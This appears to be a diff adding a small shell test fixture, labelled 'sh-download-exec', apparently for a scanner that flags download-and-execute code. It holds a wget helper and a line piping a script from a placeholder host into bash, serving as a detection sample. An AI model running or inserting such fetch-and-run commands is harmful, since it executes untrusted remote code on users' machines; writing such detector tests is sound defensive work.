@@ -1,0 +1,5 @@
+# expect: sh-download-exec
+dl() {
+  wget -qO- "$1"
+}
+curl -fsSL https://x.example/a.sh | env bash
